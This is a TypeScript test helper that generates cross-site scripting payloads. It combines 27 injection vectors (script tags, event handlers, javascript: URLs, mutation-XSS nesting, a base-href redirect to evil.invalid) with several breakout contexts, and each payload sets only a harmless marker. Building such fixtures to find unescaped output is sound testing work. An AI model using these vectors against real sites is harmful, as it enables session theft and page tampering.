/** Script payloads for unescaped output: each vector in each context. */

/** The effect of a payload, which the page records. */
const run = 'window.ran=1'

const vectors = [
  `<script>${run}</script>`,
  `<ScRiPt/x>${run}</ScRiPt >`,
  `<img src=x onerror="${run}">`,
  `<img/src=x\tonerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate attributeName=href values="javascript:${run}"/><a><text y=20>x</text></a></svg>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<body onload="${run}">`,
  `<marquee onstart="${run}">x</marquee>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href="data:text/html,<script>opener.${run}</script>">x</a>`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="//evil.invalid/">`,
  `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${run})}">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><img src=x onerror="${run}"></template>`,
] as const

const contexts: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `' x='${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `</title></textarea></style>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `"}]};//${vector}`,
]

export interface Payload {
  text: string
  vector: string
}

/** `count` payloads, spread over vectors and contexts. */
export function scriptPayloads(count: number): Payload[] {
  const all = contexts.flatMap((within) => vectors.map((vector) => ({ text: within(vector), vector })))
  return all.slice(0, count)
}
